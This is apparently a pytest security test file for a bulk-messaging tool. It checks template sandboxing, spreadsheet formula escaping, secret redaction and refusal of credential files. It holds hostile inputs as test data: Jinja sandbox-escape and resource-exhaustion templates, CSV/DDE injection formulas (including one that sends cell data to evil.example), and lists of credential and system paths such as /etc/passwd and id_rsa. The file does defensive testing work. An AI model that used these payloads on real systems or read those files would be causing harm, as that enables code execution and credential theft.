"""Malicious lists, templates and settings, and secrets that must not leak, with the installed command."""

from __future__ import annotations

import base64
import csv
import os
import shutil
import sys
from pathlib import Path

import pytest
from world import CAMPAIGN, PASSWORD, USERNAME, Sandbox, World, customers, running_world

from batchsend.campaigns.file import load_campaign
from batchsend.errors import BatchsendError, ForbiddenFileError, ListError, SettingsError
from batchsend.lists.formula_guard import unescape_formula
from batchsend.lists.newest import newest_match
from batchsend.planning.sources import read_sources
from batchsend.runs.start import with_newest_list
from batchsend.services.schedule_files import CampaignFiles
from batchsend.services.scheduler import Service
from batchsend.utils.protected_files import refusal

SECRETS = (PASSWORD, USERNAME, base64.b64encode(f"{USERNAME}:{PASSWORD}".encode()).decode())

#: A row's `Trick` makes the template reach into Python, loop forever or grow without limit.
TRICKS = """
{%- if trick == "item" %}{{ ""["__cl" ~ "ass__"]["__mro__"] }}
{%- elif trick == "format" %}{{ "{0.__class__.__init__.__globals__}".format(row) }}
{%- elif trick == "range" %}{{ range(1000000000)|list }}
{%- elif trick == "endless" %}{% for a in range(90000) %}{% for b in range(90000) %}{% endfor %}{% endfor %}
{%- elif trick == "giant" %}{{ "x" * 1000000000 }}
{%- elif trick == "growing" %}{% for a in range(90000) %}{{ "0123456789" * 100 }}{% endfor %}
{%- endif %}Hi {{ first_name }}"""


def test_no_row_escapes_the_template_sandbox_or_blocks_the_others(world: World, sandbox: Sandbox) -> None:
    tricks = ["", "item", "format", "range", "endless", "giant", "growing", ""]
    rows = [{**row, "Trick": trick} for row, trick in zip(customers(len(tricks)), tricks, strict=True)]
    world.write(rows, template=TRICKS)
    assert world.send().code == 1
    outcome = world.workbook()
    stopped = {row["Trick"]: row["status"] for row in outcome.values() if row["Trick"]}
    assert stopped == dict.fromkeys([trick for trick in tricks if trick], "invalid")
    assert {row["errorCodes"] for row in outcome.values() if row["Trick"]} <= {
        "TEMPLATE_ERROR",
        "MISSING_VALUE",
    }
    assert [request["body"] for request in sandbox.requests()] == ["Hi Name0", "Hi Name7"]
    assert "object" not in "".join(str(row["message"]) for row in outcome.values())


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/", A2), "//a")',
    "'=1+1",
    "＝1+1",
]


def test_customers_input_never_becomes_a_formula(world: World, sandbox: Sandbox) -> None:
    rows = [{**row, "Note": value} for row, value in zip(customers(len(FORMULAS)), FORMULAS, strict=True)]
    rows[0]["=Header()"] = "x"
    world.write([{"=Header()": "", **row} for row in rows], template="{{ note }} says {{ first_name }}")
    assert world.send("--results", "results.csv").code == 0
    # Reading a list strips surrounding white space.
    typed = [value.strip() for value in FORMULAS]
    with (world.folder / "results.csv").open(encoding="utf-8-sig", newline="") as file:
        found = list(csv.DictReader(file))
    assert "'=Header()" in found[0]
    for column, values in (("Note", typed), ("message", [r["body"] for r in sandbox.requests()])):
        cells = [row[column] for row in found]
        assert all(cell[:1] not in "=+-@\t\r＝" for cell in cells)
        assert [unescape_formula(cell) for cell in cells] == values
    assert world.run("results", "1").code == 0
    book = world.workbook()
    assert [row["Note"] for row in book.values()] == typed
    assert [row["message"] for row in book.values()] == [r["body"] for r in sandbox.requests()]
    assert "=Header()" in book[2]


# --- secrets

#: Python runs this at startup; after the third answer, the command fails with a bug.
DEFECT = """
import sys
if "send" in sys.argv:
    import batchsend.mykaarma.client as client
    answers = 0
    judge = client.ApiClient.post
    async def post(self, *arguments):
        global answers
        answers += 1
        if answers > 3:
            raise RuntimeError("a mistake")
        return await judge(self, *arguments)
    client.ApiClient.post = post
"""


def assert_no_secret(content: bytes, where: object) -> None:
    for secret in SECRETS:
        assert secret.encode() not in content, where
        assert secret.encode("utf-16-le") not in content, where


@pytest.mark.skipif(os.name == "nt", reason="Windows has no file modes")
def test_neither_a_kill_nor_a_traceback_leaks_a_secret(tmp_path: Path) -> None:
    with running_world(tmp_path, "--latency", "0.05") as (world, sandbox):
        for name in ("tmp", "defect"):
            (world.folder / name).mkdir()
        world.environment = {"TMPDIR": str(world.folder / "tmp"), "BATCHSEND_DEBUG": "1"}
        world.write(customers(200), campaign="[sending]\nrate = 40\nconcurrency = 5\n")
        theirs = {file for file in world.folder.rglob("*") if file.is_file()}
        process = world.start_cold("send", "campaign.toml", "--yes")
        sandbox.wait_for(5)
        if sys.platform == "linux":
            assert_no_secret(Path(f"/proc/{process.pid}/cmdline").read_bytes(), "the command line")
        process.kill()
        output = "".join(process.communicate())
        (world.folder / "defect" / "sitecustomize.py").write_text(DEFECT, encoding="utf-8")
        theirs.add(world.folder / "defect" / "sitecustomize.py")
        world.environment["PYTHONPATH"] = str(world.folder / "defect")
        broken = world.run_cold("send", "campaign.toml", "--yes")
        assert "Traceback" in broken.err
        assert "a mistake" in broken.err
        assert_no_secret((output + broken.out + broken.err).encode(), "the output")
        assert max(sandbox.texts().values()) == 1
    files = {file for file in world.folder.rglob("*") if file.is_file()} - theirs
    ours = {file for file in files if "__pycache__" not in file.parts}
    assert {file.name for file in ours} >= {"ledger.db"}
    for file in ours:
        assert_no_secret(file.read_bytes(), file)
        # The ledger, its log, plans and a partial workbook all hold texts and phones.
        assert file.stat().st_mode & 0o077 == 0, file


@pytest.mark.parametrize(
    "url",
    [
        # Names that only begin like this machine, and an address that programs read differently.
        "http://localhost.evil.example:{port}",
        "http://127.1:{port}",
        # The host is the part after the @.
        "http://localhost:{port}@evil.example",
    ],
)
def test_the_password_goes_to_no_other_machine_unprotected(world: World, sandbox: Sandbox, url: str) -> None:
    world.write(customers(1))
    world.base_url = url.format(port=world.base_url.rsplit(":", 1)[1])
    done = world.send()
    assert done.code == 2
    assert "MYKAARMA_BASE_URL" in done.err
    assert_no_secret((done.out + done.err).encode(), "the output")
    assert sandbox.requests() == []
    assert not (world.folder / ".batchsend").exists()


# --- files that hold secrets

#: A file with the API's password that is also a valid template and list.
ENV_FILE = f"Customer UUID,First Name,Phone\n{USERNAME},MYKAARMA_PASSWORD={PASSWORD},(312) 555-0101\n"
OF_TEMPLATES = """
name = "Spring"
list = "customers.csv"
template_by = {{ column = "First Name", default = "{default}", cases = {{ "{case}" = ["Name0"] }} }}
department_uuid = "3a7f1c9e2b5d8f0a4c6e9b1d3f5a7c0e"
user_uuid = "Gl2eDoAmUjXl9hL4sMrPbIi0QfZwN8OvCdGkBcHntE3"
timezone = "America/Chicago"
"""
#: Key in the error -> a campaign file that names the secret under this key.
NAMED_AS = {
    "template": lambda name: CAMPAIGN.replace("message.txt.j2", name),
    "list": lambda name: CAMPAIGN.replace("customers.csv", name),
    "template_by.default": lambda name: OF_TEMPLATES.format(default=name, case="message.txt.j2"),
    "template_by.cases": lambda name: OF_TEMPLATES.format(default="message.txt.j2", case=name),
    "recipients.suppress": lambda name: f'{CAMPAIGN}[recipients]\nsuppress = ["{name}"]\n',
}


def write_secrets(folder: Path) -> None:
    """Writes one secret to a hidden file, under other names, to a hidden folder, and behind links."""
    for name in (".env", "prod.env", ".batchsend/secret.csv"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(ENV_FILE, encoding="utf-8")
    (folder / "link.csv").symlink_to(".env")
    (folder / "folder").symlink_to(".batchsend")


@pytest.mark.parametrize("key", NAMED_AS)
@pytest.mark.parametrize(
    "name",
    [".env", "prod.env", ".batchsend/secret.csv", "link.csv", "folder/secret.csv", "../dealership/.env"],
)
def test_a_campaign_reads_no_secret(world: World, key: str, name: str) -> None:
    write_secrets(world.folder)
    world.write(customers(2), campaign=NAMED_AS[key](name))
    with pytest.raises(ForbiddenFileError) as refused:
        load_campaign(world.folder / "campaign.toml")
    error = str(refused.value)
    assert f"`{key}" in error
    assert name in error
    assert "name another file" in error


@pytest.mark.parametrize("command", ["preview", "send"])
@pytest.mark.parametrize("key", NAMED_AS)
def test_no_command_shows_or_sends_a_secret(world: World, sandbox: Sandbox, command: str, key: str) -> None:
    write_secrets(world.folder)
    world.write(customers(2), campaign=NAMED_AS[key](".env"))
    done = world.run(command, "campaign.toml", *(("--yes",) if command == "send" else ()))
    assert done.code == 2
    assert "hidden files hold settings and passwords" in done.err
    assert_no_secret((done.out + done.err).encode(), "the output")
    assert sandbox.requests() == []
    assert not (world.folder / "previews").exists()


def elsewhere(world: World, *parts: str) -> str:
    """Writes a list outside the campaign's folder; returns its path as the campaign file writes it."""
    file = world.folder.parent.joinpath(*parts)
    file.parent.mkdir(exist_ok=True)
    shutil.copy(world.folder / "customers.csv", file)
    return Path("..", *parts).as_posix()


@pytest.mark.parametrize("key", NAMED_AS)
def test_a_campaign_reads_no_file_of_another_folder(world: World, key: str) -> None:
    world.write(customers(2))
    absolute = str(world.folder.parent / "elsewhere.csv")
    (world.folder / "link.csv").symlink_to(absolute)
    for name in (
        elsewhere(world, "elsewhere.csv"),
        elsewhere(world, "exports", "x.csv"),
        absolute,
        "link.csv",
    ):
        world.write(customers(2), campaign=NAMED_AS[key](name))
        with pytest.raises(ForbiddenFileError, match="add that folder to the setting BATCHSEND_FOLDERS"):
            load_campaign(world.folder / "campaign.toml")


@pytest.mark.parametrize("name", ["templates", "sample_data", "lists"])
@pytest.mark.parametrize("key", NAMED_AS)
def test_a_campaign_may_share_files_with_others(world: World, key: str, name: str) -> None:
    world.write(customers(2))
    world.write(customers(2), campaign=NAMED_AS[key](elsewhere(world, name, "shared.csv")))
    load_campaign(world.folder / "campaign.toml")


@pytest.mark.parametrize("source", ["environment", ".env"])
def test_a_setting_names_more_folders(world: World, monkeypatch: pytest.MonkeyPatch, source: str) -> None:
    world.write(customers(2))
    world.write(customers(2), campaign=NAMED_AS["list"](elsewhere(world, "exports", "x.csv")))
    more = os.pathsep.join(str(world.folder.parent / name) for name in ("other", "exports"))
    if source == ".env":
        (world.folder / ".env").write_text(f"BATCHSEND_FOLDERS={more}\n", encoding="utf-8")
    else:
        monkeypatch.setenv("BATCHSEND_FOLDERS", more)
    assert load_campaign(world.folder / "campaign.toml").list == world.folder.parent / "exports" / "x.csv"


@pytest.mark.parametrize("value", ["exports", "/", f"/srv/exports{os.pathsep}.."])
def test_the_setting_takes_whole_paths_of_folders(world: World, value: str) -> None:
    world.write(customers(2))
    world.write(customers(2), campaign=NAMED_AS["list"](elsewhere(world, "exports", "x.csv")))
    (world.folder / ".env").write_text(f"BATCHSEND_FOLDERS={value}\n", encoding="utf-8")
    with pytest.raises(SettingsError, match="Write whole paths of folders"):
        load_campaign(world.folder / "campaign.toml")


def test_the_command_line_names_lists_in_any_folder(world: World) -> None:
    world.write(customers(2))
    name = elsewhere(world, "exports", "x.csv")
    campaign = load_campaign(world.folder / "campaign.toml")
    for given in (name, "../exports/*.csv"):
        with_list = campaign.with_overrides(list=world.folder / given).with_overrides(rate=5)
        assert with_newest_list(with_list).list == world.folder.parent / "exports" / "x.csv"


def test_a_pattern_follows_no_link_into_another_folder(world: World) -> None:
    world.write(customers(2))
    world.write(customers(2), campaign=NAMED_AS["list"]("list-*.csv"))
    (world.folder / "list-2.csv").symlink_to(elsewhere(world, "elsewhere.csv"))
    campaign = load_campaign(world.folder / "campaign.toml")
    with pytest.raises(ListError, match="no file matches"):
        with_newest_list(campaign)
    world.write_list(customers(1), "list-1.csv")
    assert with_newest_list(campaign).list == world.folder / "list-1.csv"


def test_no_option_and_no_import_reads_a_secret(world: World, sandbox: Sandbox) -> None:
    write_secrets(world.folder)
    world.write(customers(2))
    for name in (".env", "link.csv", ".batchsend/secret.csv"):
        for arguments in (
            ("preview", "campaign.toml", "--list", name),
            ("send", "campaign.toml", "--yes", "--list", name),
            ("optouts", "import", name),
        ):
            done = world.run(*arguments)
            assert done.code == 2, arguments
            assert "hidden files hold settings and passwords" in done.err
            assert_no_secret((done.out + done.err).encode(), arguments)
    assert sandbox.requests() == []


@pytest.mark.parametrize(
    "tag",
    [
        "{% include 'NAME' %}",
        "{% import 'NAME' as x %}",
        "{% from 'NAME' import x %}",
        "{% extends 'NAME' %}",
    ],
)
@pytest.mark.parametrize("name", [".env", "link.csv", "prod.env", ".batchsend/secret.csv"])
def test_no_template_includes_a_secret(world: World, tag: str, name: str) -> None:
    write_secrets(world.folder)
    world.write(customers(2), template=tag.replace("NAME", name))
    with pytest.raises(BatchsendError) as refused:
        read_sources(load_campaign(world.folder / "campaign.toml"))
    error = str(refused.value)
    assert "cannot be used: " in error
    assert "hold" in error, "the reason"
    assert_no_secret(error.encode(), "the error")


@pytest.mark.parametrize("key", ["list", "template", "suppress"])
def test_a_link_that_changes_to_a_secret_after_the_check_is_refused(world: World, key: str) -> None:
    write_secrets(world.folder)
    world.write(customers(2), campaign=NAMED_AS["recipients.suppress"]("people.csv"))
    world.write_list(customers(1), "people.csv")
    campaign = load_campaign(world.folder / "campaign.toml")
    file = (
        world.folder / {"list": "customers.csv", "template": "message.txt.j2", "suppress": "people.csv"}[key]
    )
    file.unlink()
    file.symlink_to(".env")
    with pytest.raises(BatchsendError) as refused:
        read_sources(campaign)
    assert f"{file}: " in str(refused.value)
    assert "hidden files hold settings and passwords" in str(refused.value)
    assert_no_secret(str(refused.value).encode(), "the error")


def test_no_schedule_starts_a_campaign_that_names_a_secret(world: World) -> None:
    write_secrets(world.folder)
    schedule = '[schedule]\ncron = "* * * * *"\n'
    world.write(customers(2), campaign=NAMED_AS["template"](".env") + schedule)
    log: list[str] = []
    started: list[object] = []
    file = world.folder / "campaign.toml"
    service = Service(CampaignFiles([file], []), None, log.append, launch=started.append)  # type: ignore[arg-type]
    service.turn()
    assert "hidden files hold settings and passwords" in "".join(log)
    assert started == []
    assert not service.watching


def test_a_pattern_finds_no_secret(world: World) -> None:
    write_secrets(world.folder)
    for pattern in ("*.env", "l*.csv", "*/secret.csv", "f*/*.csv"):
        with pytest.raises(ListError, match="no file matches"):
            newest_match(world.folder / pattern, lambda _path: True)


@pytest.mark.parametrize(
    "path",
    [
        # Hidden files and files in hidden folders, near and far.
        "{home}/.env",
        "{home}/.env.txt",
        "{home}/.x/list.csv",
        "{home}/../.ssh/config",
        "/elsewhere/.aws/list.csv",
        # Usual names of credential files, also as Windows reads them.
        "{home}/prod.env",
        "{home}/Prod.ENV",
        "{home}/env.txt",
        "{home}/prod.env.bak",
        "{home}/prod.env.",
        "{home}/prod.env::$DATA",
        "{home}/id_rsa",
        "{home}/tls.pem",
        "{home}/tls.key",
        "{home}/_netrc",
        "{home}/credentials.json",
        "{home}/client_secret_4711.json",
        "{home}/secrets.toml",
        "{home}/passwd",
        # System files, also written as other paths.
        "/etc/passwd",
        "/etc/ssl/openssl.cnf",
        "/proc/self/environ",
        "{home}/../../../../../../../etc/group",
    ],
)
def test_protected_files_are_refused(tmp_path: Path, path: str) -> None:
    home = tmp_path / "shop"
    home.mkdir()
    assert refusal(Path(path.format(home=home)), home) is not None


@pytest.mark.parametrize("home", ["shop", ".local/share/shop", ".shop"])
@pytest.mark.parametrize(
    "path",
    [
        "customers.csv",
        "lists/2026.csv",
        "../lists/customers.csv",
        "spring.txt.j2",
        "environment.csv",
        "secret sale.csv",
        "secret_sale.txt.j2",
        "keys.csv",
        "shadow.csv",
        "opt_outs..csv",
    ],
)
def test_ordinary_files_are_allowed(tmp_path: Path, home: str, path: str) -> None:
    """A campaign in a hidden folder may name files there."""
    folder = tmp_path / home
    folder.mkdir(parents=True)
    assert refusal(folder / path, folder) is None
